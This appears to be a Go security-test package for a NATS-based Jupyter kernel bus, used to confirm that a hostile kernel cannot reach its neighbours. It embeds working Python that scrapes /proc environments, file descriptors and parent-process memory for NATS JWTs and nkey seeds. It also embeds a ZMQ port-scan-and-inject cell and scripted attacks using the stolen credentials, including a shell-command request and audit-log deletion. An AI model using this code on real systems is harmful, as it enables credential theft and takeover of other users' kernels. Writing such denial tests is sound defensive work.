// Package attack is what a hostile kernel does to another kernel with
// whatever bus credentials it can find: the cell it runs, and the attacks
// a test makes with a real NATS client using what the cell found. Suites
// that run real kernels (serve, the failover cluster) share it so that each
// denial is asserted the same way everywhere.
package attack

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/kernelbus/kernelbus/broker"
	"github.com/kernelbus/kernelbus/frontend/client"
	"github.com/kernelbus/kernelbus/jetstream/access"
	"github.com/kernelbus/kernelbus/jetstream/jstest"
	"github.com/nats-io/nats.go"
	"github.com/nats-io/nkeys"
)

// HostileCell is what code in kernel A runs with Python's standard library
// only: it reads everything about its launcher (the kernel's parent) that
// the OS lets it read (environment, command line, open files and pipes,
// and, where it may, the launcher's memory) and every other process's
// environment and command line, and prints every NATS user JWT and nkey
// seed it found, as JSON.
const HostileCell = `
import os, re, json
found = {"uid": os.getuid(), "launcher_pid": os.getppid(), "jwts": [], "seeds": [], "sources": {}, "denied": []}
JWT = re.compile(rb'eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{20,}\.[A-Za-z0-9_-]{20,}')
SEED = re.compile(rb'S[UAOCN][A-Z2-7]{56}')
def scan(src, data):
    for rx, key in ((JWT, "jwts"), (SEED, "seeds")):
        for m in rx.findall(data):
            s = m.decode()
            if s not in found[key]:
                found[key].append(s)
                found["sources"][src] = found["sources"].get(src, 0) + 1
def read(src, path, limit=1 << 22):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            scan(src, os.read(fd, limit))
        finally:
            os.close(fd)
    except ProcessLookupError:
        pass
    except Exception as e:
        if len(found["denied"]) < 40:
            found["denied"].append("%s %s: %s" % (src, path, type(e).__name__))
ppid = os.getppid()
scan("own environ", "\0".join(k + "=" + v for k, v in os.environ.items()).encode())
for pid in os.listdir("/proc"):
    if pid.isdigit():
        read("environ", "/proc/%s/environ" % pid)
        read("cmdline", "/proc/%s/cmdline" % pid)
read("launcher environ", "/proc/%d/environ" % ppid)
try:
    for fd in os.listdir("/proc/%d/fd" % ppid):
        p = "/proc/%d/fd/%s" % (ppid, fd)
        found["sources"]["fd " + fd + " " + os.readlink(p)] = 0
        read("launcher fd " + fd, p)
except Exception as e:
    found["denied"].append("launcher fds: %s" % type(e).__name__)
try:
    with open("/proc/%d/maps" % ppid) as maps, open("/proc/%d/mem" % ppid, "rb", 0) as mem:
        for line in maps:
            rng, perms = line.split()[:2]
            lo, hi = (int(x, 16) for x in rng.split("-"))
            if "r" not in perms or hi - lo > 1 << 28:
                continue
            try:
                mem.seek(lo)
                scan("launcher memory", mem.read(hi - lo))
            except OSError:
                pass
except Exception as e:
    found["denied"].append("launcher memory: %s" % type(e).__name__)
print("FOUND" + json.dumps(found))
`

// TryIt starts a cell that tries things one by one: tryit(name, f) records
// in the dict tries whether f ran ("ok") or the type of the error it
// raised. It imports os and json for the cell. It holds no %, so a cell
// built on it can go through fmt.Sprintf.
const TryIt = `
import os, json
tries = {}
def tryit(name, f):
    try:
        f()
        tries[name] = "ok"
    except Exception as e:
        tries[name] = type(e).__name__
`

// zmqCell sends, from kernel A, to every TCP port listening on 127.0.0.1
// but its own, a ZMQ execute_request signed with A's own key and one
// unsigned, whose code would create %[1]q; then the same, signed with A's
// key, to A's own shell port, whose code creates %[2]q: the control that
// runs, so the denials are not those of a malformed message.
const zmqCell = `
import json, hmac, hashlib, time, uuid
res = {}
def zmq_attack():
    import zmq
    from ipykernel.connect import get_connection_file
    own = json.load(open(get_connection_file()))
    mine = {v for k, v in own.items() if k.endswith("_port")}
    ports = set()
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        f = line.split()
        if f[3] == "0A" and f[1].startswith("0100007F:"):
            p = int(f[1].split(":")[1], 16)
            if p not in mine:
                ports.add(p)
    code = 'pwned_by_a = 1; open(%[1]q, "w").write("pwned")'
    ctx = zmq.Context.instance()
    # A batch of ports at a time, every message of the batch sent before
    # one shared wait for replies: the cell's time does not grow by a wait
    # per port, whatever else listens on this host.
    def probe(batch):
        poller, socks, n = zmq.Poller(), [], 0
        for p in batch:
            for key in (own["key"].encode(), b""):
                s = ctx.socket(zmq.DEALER)
                s.linger = 500
                s.connect("tcp://127.0.0.1:%%d" %% p)
                hdr = {"msg_id": uuid.uuid4().hex, "msg_type": "execute_request", "username": "a", "session": uuid.uuid4().hex, "date": "2026-01-01T00:00:00Z", "version": "5.3"}
                parts = [json.dumps(hdr).encode(), b"{}", b"{}", json.dumps({"code": code, "silent": False}).encode()]
                sig = hmac.new(key, b"".join(parts), hashlib.sha256).hexdigest().encode() if key else b""
                s.send_multipart([b"<IDS|MSG>", sig] + parts)
                poller.register(s, zmq.POLLIN)
                socks.append(s)
        end = time.monotonic() + 0.5
        while time.monotonic() < end:
            for s, _ in poller.poll(max(1, int((end - time.monotonic()) * 1000))):
                n += 1
                poller.unregister(s)
        for s in socks:
            s.close()
        return n
    ordered = sorted(ports)
    replies = sum(probe(ordered[i:i + 100]) for i in range(0, len(ordered), 100))
    hdr = {"msg_id": uuid.uuid4().hex, "msg_type": "execute_request", "username": "a", "session": uuid.uuid4().hex, "date": "2026-01-01T00:00:00Z", "version": "5.3"}
    parts = [json.dumps(hdr).encode(), b"{}", b"{}", json.dumps({"code": 'open(%[2]q, "w").write("self")', "silent": False}).encode()]
    s = ctx.socket(zmq.DEALER)
    s.linger = 1000
    s.connect("tcp://127.0.0.1:%%d" %% own["shell_port"])
    s.send_multipart([b"<IDS|MSG>", hmac.new(own["key"].encode(), b"".join(parts), hashlib.sha256).hexdigest().encode()] + parts)
    s.close()
    res["ports"] = sorted(ports)
    res["replies"] = replies
try:
    zmq_attack()
except Exception:
    import traceback
    res["error"] = traceback.format_exc()
print("ZMQ" + json.dumps(res))
`

// ZMQ makes kernel A (through conn) send execute_requests to every other
// ZMQ port on 127.0.0.1, signed with the only key it has (its own) and
// unsigned, whose code would create pwned in the kernel that runs it; then
// the control, the same signed message to A's own shell port, which
// creates selfMark in A once this cell ends (the caller checks both). It
// returns the ports tried.
func ZMQ(t testing.TB, conn *client.Conn, pwned, selfMark string) map[int]bool {
	t.Helper()
	r, err := conn.Execute(fmt.Sprintf(zmqCell, pwned, selfMark), 2*time.Minute)
	if err != nil || r.Status != "ok" {
		t.Fatalf("the ZMQ cell: %+v %v", r, err)
	}
	out := r.Stdout.String()
	i := strings.Index(out, "ZMQ")
	var res struct {
		Ports   []int
		Replies int
		Error   string
	}
	if i < 0 || json.Unmarshal([]byte(strings.TrimSpace(out[i+len("ZMQ"):])), &res) != nil {
		t.Fatalf("the ZMQ cell printed %q", out)
	}
	if res.Error != "" {
		t.Fatalf("kernel A's ZMQ attempts failed: %s", res.Error)
	}
	t.Logf("kernel A sent signed and unsigned execute_requests to ports %v: %d replies", res.Ports, res.Replies)
	tried := map[int]bool{}
	for _, p := range res.Ports {
		tried[p] = true
	}
	return tried
}

// KernelProc finds kernel id's ipykernel process on this host (seen from
// the host's /proc) and its connection file.
func KernelProc(t testing.TB, id string) (pid int, connFile string) {
	t.Helper()
	jstest.WaitFor(t, 30*time.Second, "kernel "+id+"'s process", func() bool {
		dirs, _ := os.ReadDir("/proc")
		for _, d := range dirs {
			n, err := strconv.Atoi(d.Name())
			if err != nil {
				continue
			}
			cmd, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", n))
			for _, a := range strings.Split(string(cmd), "\x00") {
				if strings.HasSuffix(a, "kernel-"+id+".json") && strings.Contains(string(cmd), "ipykernel") {
					pid, connFile = n, a
					return true
				}
			}
		}
		return false
	})
	return pid, connFile
}

// Loot is what the hostile cell printed.
type Loot struct {
	UID     int            `json:"uid"`
	PID     int            `json:"launcher_pid"`
	JWTs    []string       `json:"jwts"`
	Seeds   []string       `json:"seeds"`
	Sources map[string]int `json:"sources"`
	Denied  []string       `json:"denied"`
}

// Attacker is a connection made with stolen credentials; it records the
// permission violations the server reports.
type Attacker struct {
	Name string
	NC   *nats.Conn
	mu   sync.Mutex
	errs []string
}

// Violations are the errors the server reported so far.
func (a *Attacker) Violations() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]string{}, a.errs...)
}

// DeniedTo waits for the server's permission violation naming subject.
func (a *Attacker) DeniedTo(t testing.TB, what, kind, subject string) {
	t.Helper()
	want := strings.ToLower(kind + " to \"" + subject + "\"")
	denied := jstest.Eventually(10*time.Second, func() bool {
		for _, e := range a.Violations() {
			if strings.Contains(strings.ToLower(e), want) {
				return true
			}
		}
		return false
	})
	if !denied {
		t.Errorf("%s with %s: no permission violation for %s; the server reported %v", what, a.Name, want, a.Violations())
	}
}

// Steal runs HostileCell in kernel A through conn and returns what it
// found, logged for the test's record.
func Steal(t testing.TB, conn *client.Conn) *Loot {
	t.Helper()
	r, err := conn.Execute(HostileCell, 2*time.Minute)
	if err != nil || r.Status != "ok" {
		t.Fatalf("the hostile cell: %+v %v", r, err)
	}
	l, err := ParseLoot(r.Stdout.String())
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("kernel A (uid %d, launcher pid %d) found %d JWTs and %d seeds; sources %v; denied %d reads, e.g. %v",
		l.UID, l.PID, len(l.JWTs), len(l.Seeds), l.Sources, len(l.Denied), l.Denied[:min(len(l.Denied), 5)])
	return l
}

// Minted is kernel A's own launcher credentials, minted with the minter
// in minterFile: the most a kernel can hold, tried whether or not the
// cell found anything.
func Minted(t testing.TB, minterFile, kernel string) Cred {
	t.Helper()
	minter, err := access.LoadMinter(minterFile)
	if err != nil {
		t.Fatal(err)
	}
	jwt, seed, err := minter.Launcher(kernel, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	return Cred{Name: "kernel A's own launcher credentials", JWT: jwt, Seed: seed}
}

// RunAll dials urls (TLS trusting caFile) with each credential and, in a
// subtest for each one that connects, runs Run against a and b and then
// after (when not nil). It fails the test when no credential connected:
// the attacks would have run with none.
func RunAll(t *testing.T, urls, caFile string, creds []Cred, a, b string, after func(t *testing.T, at *Attacker)) {
	t.Helper()
	connected := 0
	for _, cr := range creds {
		at, ok, err := Dial(urls, caFile, cr)
		if err != nil {
			t.Error(err)
		}
		if !ok {
			continue
		}
		connected++
		t.Run(cr.Name, func(t *testing.T) {
			defer at.NC.Close()
			Run(t, at, a, b)
			if after != nil {
				after(t, at)
			}
		})
	}
	if connected == 0 {
		t.Fatal("no credential connected: the attacks ran with none (A's own minted credentials should connect)")
	}
}

// ParseLoot reads the report the hostile cell printed on stdout.
func ParseLoot(stdout string) (*Loot, error) {
	i := strings.Index(stdout, "FOUND")
	if i < 0 {
		return nil, fmt.Errorf("the hostile cell printed %q", stdout)
	}
	var l Loot
	if err := json.Unmarshal([]byte(strings.TrimSpace(stdout[i+len("FOUND"):])), &l); err != nil {
		return nil, fmt.Errorf("the hostile cell's report: %w", err)
	}
	return &l, nil
}

// Cred is a user JWT and nkey seed to try.
type Cred struct{ Name, JWT, Seed string }

// Creds pairs every JWT the cell found with every valid seed (a creds
// file pairs them; memory may hold them apart), a few of each.
func (l *Loot) Creds() []Cred {
	var seeds []string
	for _, s := range l.Seeds {
		// Memory holds strings that only look like seeds.
		if _, err := nkeys.FromSeed([]byte(s)); err == nil {
			seeds = append(seeds, s)
		}
	}
	var out []Cred
	for ji, j := range l.JWTs[:min(len(l.JWTs), 6)] {
		for si, s := range seeds[:min(len(seeds), 6)] {
			out = append(out, Cred{fmt.Sprintf("found JWT %d + seed %d", ji, si), j, s})
		}
	}
	return out
}

// Dial connects with cr over TLS trusting caFile; a refusal that is not an
// authorization failure is an error for the caller to report. connected
// is false when the server refused the credential (the best outcome).
func Dial(urls, caFile string, cr Cred) (at *Attacker, connected bool, err error) {
	at = &Attacker{Name: cr.Name}
	opts := []nats.Option{
		nats.UserJWTAndSeed(cr.JWT, cr.Seed),
		nats.MaxReconnects(0),
		nats.ErrorHandler(func(_ *nats.Conn, _ *nats.Subscription, err error) {
			at.mu.Lock()
			at.errs = append(at.errs, err.Error())
			at.mu.Unlock()
		}),
	}
	if caFile != "" {
		opts = append(opts, nats.Secure(), nats.RootCAs(caFile))
	}
	nc, err := nats.Connect(urls, opts...)
	if err != nil {
		if e := strings.ToLower(err.Error()); strings.Contains(e, "authorization") || strings.Contains(e, "authentication") {
			return at, false, nil
		}
		return at, false, fmt.Errorf("%s: connect failed, but not on authorization: %w", cr.Name, err)
	}
	at.NC = nc
	return at, true, nil
}

// PwnedFile is the file code published into kernel's input would create.
func PwnedFile(kernel string) string {
	return filepath.Join(os.TempDir(), "kb-pwned-"+kernel)
}

// Run tries, with one stolen credential, everything kernel A's code
// could do to B and the installation, and asserts each is denied. The
// caller then checks that B is untouched (its record, its state, that
// PwnedFile(b) does not exist).
func Run(t *testing.T, at *Attacker, a, b string) {
	t.Helper()
	nc := at.NC
	// The credential is real: A's own control subject is allowed.
	own, err := nc.Subscribe(broker.SubjectControl(a), func(*nats.Msg) {})
	if err == nil {
		_ = own.Unsubscribe()
	}

	var gotB sync.Map
	sub := func(subject string) {
		t.Helper()
		if _, err := nc.Subscribe(subject, func(m *nats.Msg) { gotB.Store(m.Subject, true) }); err != nil {
			t.Errorf("subscribe %s: %v", subject, err)
		}
		_ = nc.Flush()
		at.DeniedTo(t, "subscribe", "subscription", subject)
	}
	pub := func(subject string, data []byte) {
		t.Helper()
		if err := nc.Publish(subject, data); err != nil {
			t.Errorf("publish %s: %v", subject, err)
		}
		_ = nc.Flush()
		at.DeniedTo(t, "publish", "publish", subject)
	}

	// Read B's output, live.
	sub(broker.SubjectOutAll(b))
	sub("kb.io.>")
	sub(">")
	// Steal B's control requests and its replies.
	sub(broker.SubjectControl(b))
	sub(broker.InboxPrefix(b) + ".>")
	sub("_INBOX.>")
	// Run code in B.
	code := fmt.Sprintf("open(%q, 'w').write('pwned')", PwnedFile(b))
	msg, _ := json.Marshal(map[string]any{"header": map[string]any{"msg_type": "execute_request", "msg_id": "evil"}, "content": map[string]any{"code": code}})
	pub(broker.SubjectIn(b), msg)
	// Interrupt or shut B down.
	pub(broker.SubjectControl(b), []byte(`{"op":"`+broker.OpShutdown+`","request_id":"evil"}`))
	// Read and change B's record and activity, and sessions.
	pub("$JS.API.DIRECT.GET.KV_"+broker.BucketKernels+".$KV."+broker.BucketKernels+"."+b, nil)
	pub("$JS.API.STREAM.MSG.GET.KV_"+broker.BucketKernels, []byte(`{"last_by_subj":"$KV.`+broker.BucketKernels+`.`+b+`"}`))
	pub("$KV."+broker.BucketKernels+"."+b, []byte(`{"id":"`+b+`","state":"dead"}`))
	pub("$KV."+broker.BucketActivity+"."+b, []byte(`{}`))
	pub("$JS.API.DIRECT.GET.KV_"+broker.BucketSessions, []byte(`{"seq":1}`))
	// Read B's history from KB_IO through a consumer of its own.
	pub("$JS.API.CONSUMER.CREATE."+broker.StreamIO+".evil."+broker.SubjectOutAll(b), []byte(`{}`))
	pub("$JS.API.CONSUMER.CREATE."+broker.StreamIO, []byte(`{}`))
	pub("$JS.API.CONSUMER.INFO."+broker.StreamIO+"."+broker.InputConsumer(b), nil)
	pub("$JS.API.CONSUMER.MSG.NEXT."+broker.StreamIO+"."+broker.InputConsumer(b), []byte(`{"batch":1}`))
	// Erase the audit log and the records.
	pub("$JS.API.STREAM.DELETE."+broker.StreamEvents, nil)
	pub("$JS.API.STREAM.PURGE."+broker.StreamIO, nil)
	pub("$JS.API.STREAM.DELETE.KV_"+broker.BucketKernels, nil)
	pub("$JS.API.STREAM.LIST", nil)
	// Make a worker run a command, or stop another kernel.
	pub(broker.SubjectRequest(broker.VerbStart, broker.RMLocal), []byte(`{"argv":["/bin/sh","-c","touch /tmp/evil"]}`))
	pub(broker.SubjectRequest(broker.VerbStop, broker.RMLocal), []byte(`{"kernel_id":"`+b+`"}`))
	// Renew B's credentials.
	pub(access.SubjectRenew(b), nil)

	// Nothing of B's arrived on the denied subscriptions.
	gotB.Range(func(k, _ any) bool {
		if s := k.(string); strings.Contains(s, b) {
			t.Errorf("%s received B's message on %s", at.Name, s)
		}
		return true
	})
	for _, e := range at.Violations() {
		if strings.Contains(strings.ToLower(e), "\""+strings.ToLower(broker.SubjectControl(a))+"\"") {
			t.Errorf("A's own control subject was denied: the credentials are not A's (%s)", e)
		}
	}
}
